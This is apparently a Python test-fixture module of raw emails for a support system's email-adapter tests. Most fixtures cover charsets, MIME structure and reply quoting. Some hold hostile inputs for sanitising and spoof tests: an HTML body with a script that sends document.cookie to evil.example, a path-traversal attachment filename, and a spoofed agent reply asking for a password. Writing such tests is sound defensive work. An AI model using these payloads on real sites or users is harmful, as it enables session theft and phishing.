"""Raw RFC 5322 mails shaped like real ones, for the email adapter's tests.

Each is bytes with CRLF line ends, as an MTA hands them over. `BASE64_HTML` and the builders
encode their bodies here so the encoded form is real base64 of a known text.
"""

from __future__ import annotations

import base64


def crlf(text: str | bytes) -> bytes:
    data = text.encode() if isinstance(text, str) else text
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


GMAIL_ALTERNATIVE = crlf("""\
Return-Path: <juergen.mueller@acme.example>
Received: from mail-ed1-f41.google.example (mail-ed1-f41.google.example [209.85.208.41])
\tby mx.carelog.example (Postfix) with ESMTPS id 4Ql9xT0f2bz9sWc
\tfor <support@carelog.example>; Mon,  2 Mar 2026 09:15:04 +0000 (UTC)
MIME-Version: 1.0
References: <case.0123@carelog.example>
 <case.4567@carelog.example>
In-Reply-To: <case.4567@carelog.example>
From: =?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <Juergen.Mueller@Acme.example>
Date: Mon, 2 Mar 2026 10:15:00 +0100
Message-ID: <CAFk3=mT9+Qx_2v@mail.gmail.example>
Subject: =?UTF-8?B?UmU6IExvZ2luIGdlaHQgbmljaHQgW0NMLTFhMmIzYzRkXQ==?=
To: Carelog Support <support@carelog.example>
Cc: it@acme.example
Content-Type: multipart/alternative; boundary="000000000000e5a1b2061f4c8d2e"

--000000000000e5a1b2061f4c8d2e
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

Gr=C3=BC=C3=9Fe, der Login geht wieder.

On Mon, 2 Mar 2026 at 09:00, Carelog Support <support@carelog.example> wro=
te:

> Bitte versuchen Sie es erneut.
>
> Ihr Support-Team

--000000000000e5a1b2061f4c8d2e
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

<div dir=3D"ltr">Gr=C3=BC=C3=9Fe, der Login geht wieder.</div><br><div class=
=3D"gmail_quote"><blockquote>Bitte versuchen Sie es erneut.</blockquote></div>

--000000000000e5a1b2061f4c8d2e--
""")

OUTLOOK_QP_CP1252 = crlf("""\
From: "Schmidt, Anna" <Anna.Schmidt@globex.example>
To: "support@carelog.example" <support@carelog.example>
Subject: AW: Rechnung doppelt [CL-00AB12CD]
Thread-Topic: Rechnung doppelt
Date: Tue, 3 Mar 2026 08:01:12 +0000
Message-ID: <AM0PR07MB6210F3B0A2D8C1E4B7A5C9D1E0F2A@AM0PR07MB6210.eurprd07.prod.outlook.example>
In-Reply-To: <case.89ab@carelog.example>
Content-Language: de-DE
Content-Type: text/plain; charset="windows-1252"
Content-Transfer-Encoding: quoted-printable
MIME-Version: 1.0

Guten Tag, die Rechnung =FCber 50 =80 ist doppelt =96 bitte pr=FCfen.

Mit freundlichen Gr=FC=DFen
Anna Schmidt

-----Original Message-----
From: Carelog Support <support@carelog.example>=20
Sent: Monday, March 2, 2026 4:00 PM
To: Schmidt, Anna <Anna.Schmidt@globex.example>
Subject: Rechnung doppelt [CL-00AB12CD]

Wir pr=FCfen das.
""")

KOI8_R = crlf(b"""\
From: =?koi8-r?B?6dfBziDwxdTSz9c=?= <ivan@initech.example>
To: support@carelog.example
Subject: =?koi8-r?b?896j1CDOxSDQ0snbo8w=?=
Date: Wed, 4 Mar 2026 12:00:00 +0300
Message-ID: <20260304120000.1234@initech.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: 8bit

\xd0\xd2\xc9\xd7\xc5\xd4, \xd3\xde\xa3\xd4 \xce\xc5 \xd0\xd2\xc9\xdb\xa3\xcc
""")

ISO_2022_JP = crlf(b"""\
From: tanaka@umbrella.example
To: support@carelog.example
Subject: =?iso-2022-jp?b?GyRCQEE1YT1xJCxGTyQtJF4kOyRzGyhC?=
Date: Thu, 5 Mar 2026 09:30:00 +0900
Message-ID: <5f3a.tanaka@umbrella.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit

\x1b$B@A5a=q$,FO$-$^$;$s!#\x1b(B
""")

_HTML = ("<html><head><title>Invoice</title><style>p {color: red}</style>"
         "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
         "<body><p onclick=\"steal()\">Hello&nbsp;team,</p><p>the export &amp; the report "
         "fail with <b>error 500</b>.</p><script type=\"text/javascript\">alert(1)</script>"
         "<img src=\"https://tracker.example/p.gif\"><p>Thanks<br>Maria</p></body></html>")

BASE64_HTML = crlf(f"""\
From: Maria Rossi <maria@hooli.example>
To: support@carelog.example
Subject: Export fails
Date: Fri, 6 Mar 2026 14:00:00 +0100
Message-ID: <html-only-1@hooli.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

{base64.encodebytes(_HTML.encode()).decode()}""")

OUTLOOK_HEADER_REPLY = crlf("""\
From: bob@acme.example
To: support@carelog.example
Subject: RE: Access [CL-1A2B3C4D]
Message-ID: <reply-outlook@acme.example>
Content-Type: text/plain; charset=utf-8

Yes, please reset it.

________________________________
From: Carelog Support <support@carelog.example>
Sent: Monday, 2 March 2026 10:00
To: Bob
Subject: Access

Shall we reset the password?
""")

GERMAN_REPLY = crlf("""\
From: carla@acme.example
To: support@carelog.example
Subject: Re: Zugang
Message-ID: <reply-de@acme.example>
Content-Type: text/plain; charset=utf-8

Danke, erledigt.

Am 02.03.2026 um 10:00 schrieb Carelog Support <support@carelog.example>:
> Bitte neu anmelden.
""")

INLINE_QUOTES = crlf("""\
From: dave@acme.example
To: support@carelog.example
Subject: Re: Questions
Message-ID: <reply-inline@acme.example>
Content-Type: text/plain; charset=utf-8

> Which browser do you use?
Firefox 140.
> And which version of the app?
3.2.1
""")

ONLY_QUOTED = crlf("""\
From: erin@acme.example
To: support@carelog.example
Subject: Fwd
Message-ID: <only-quoted@acme.example>
Content-Type: text/plain; charset=utf-8

> the whole mail is a quote
> of something else
""")

_PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
_PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                     "1f15c4890000000a49444154789c6300010000050001")

WITH_ATTACHMENTS = crlf(f"""\
From: Frank <frank@acme.example>
To: support@carelog.example
Subject: Screenshot and invoice
Message-ID: <attach-1@acme.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed-b1"

--mixed-b1
Content-Type: multipart/related; boundary="related-b2"

--related-b2
Content-Type: multipart/alternative; boundary="alt-b3"

--alt-b3
Content-Type: text/plain; charset=us-ascii

See the screenshot and the invoice.
--alt-b3
Content-Type: text/html; charset=us-ascii

<p>See the screenshot <img src="cid:shot"> and the invoice.</p>
--alt-b3--
--related-b2
Content-Type: image/png
Content-ID: <shot>
Content-Disposition: inline
Content-Transfer-Encoding: base64

{base64.encodebytes(_PNG).decode()}
--related-b2--
--mixed-b1
Content-Type: application/pdf; name="=?UTF-8?Q?Rechnung_M=C3=A4rz.pdf?="
Content-Disposition: attachment; filename*=UTF-8''..%2F..%2Fetc%2FRechnung%20M%C3%A4rz.pdf
Content-Transfer-Encoding: base64

{base64.encodebytes(_PDF).decode()}
--mixed-b1
Content-Type: text/csv; charset=utf-8
Content-Disposition: attachment; filename="usage.csv"

month,logins
2026-02,412
--mixed-b1--
""")
PNG_SIZE = len(_PNG)
PDF_SIZE = len(_PDF)

BROKEN_BOUNDARY = crlf("""\
From: gina@acme.example
To: support@carelog.example
Subject: Broken
Message-ID: <broken-1@acme.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="declared-boundary"

--some-other-boundary
Content-Type: text/plain; charset=utf-8

The app crashes when I <b>upload</b> a file.
--some-other-boundary--
""")

INVALID_CHARSET = crlf("""\
From: hank@acme.example
To: support@carelog.example
Subject: Charset
Message-ID: <charset-1@acme.example>
MIME-Version: 1.0
Content-Type: text/plain; charset="x-klingon-8"
Content-Transfer-Encoding: 8bit

Caf\xc3\xa9 ist geschlossen.
""".encode("latin-1"))

LATIN1_UNDER_BOGUS_CHARSET = crlf(b"""\
From: ida@acme.example
To: support@carelog.example
Subject: Charset 2
Message-ID: <charset-2@acme.example>
Content-Type: text/plain; charset=base64
Content-Transfer-Encoding: 8bit

Caf\xe9 geschlossen.
""")

NO_MESSAGE_ID = crlf("""\
From: jack@acme.example
To: support@carelog.example
Subject: No id

Hello without an id.
""")


def many_recipients(count: int) -> bytes:
    to = ",\n ".join(f"user{i}@list.acme.example" for i in range(count))
    return crlf(f"""\
From: kate@acme.example
To: {to}
Cc: support@carelog.example
Subject: Newsletter
Message-ID: <many-rcpt@acme.example>

Hello everyone.
""")


def _huge_lines(size: int) -> int:
    return size // (76 + 2) + 1


def huge_attachment_size(size: int) -> int:
    """The decoded size of the attachment of `huge_mail(size)`: 57 bytes per base64 line."""
    return _huge_lines(size) * 57


def huge_mail(size: int) -> bytes:
    """A mail with a base64 attachment making it at least `size` bytes."""
    line = base64.b64encode(b"\x00" * 57).decode()
    lines = "\n".join([line] * _huge_lines(size))
    return crlf(f"""\
From: leo@acme.example
To: support@carelog.example
Subject: Logs
Message-ID: <huge-1@acme.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain

All logs attached.
--b
Content-Type: application/octet-stream; name="logs.bin"
Content-Transfer-Encoding: base64

{lines}
--b--
""")


def auto_reply(extra_headers: str, sender: str = "vacation@acme.example",
               content_type: str = "text/plain; charset=utf-8") -> bytes:
    return crlf(f"""\
From: {sender}
To: support@carelog.example
Subject: Out of office: Re: Access [CL-1A2B3C4D]
Message-ID: <auto-{abs(hash(extra_headers + sender))}@acme.example>
{extra_headers}
Content-Type: {content_type}

I am out of the office until Monday.
""")


def agent_reply(authentication_results: str, notification_id: str) -> bytes:
    """A reply in an agent's name that points at one of our notifications (C9)."""
    return crlf(f"""\
Authentication-Results: {authentication_results}
From: Sam Agent <sam@carelog.example>
To: support@carelog.example
Subject: Re: Access [CL-1A2B3C4D]
Message-ID: <spoof-1@evil.example>
In-Reply-To: <{notification_id}>
References: <{notification_id}>
Content-Type: text/plain; charset=utf-8

Please send your password to verify@evil.example.
""")
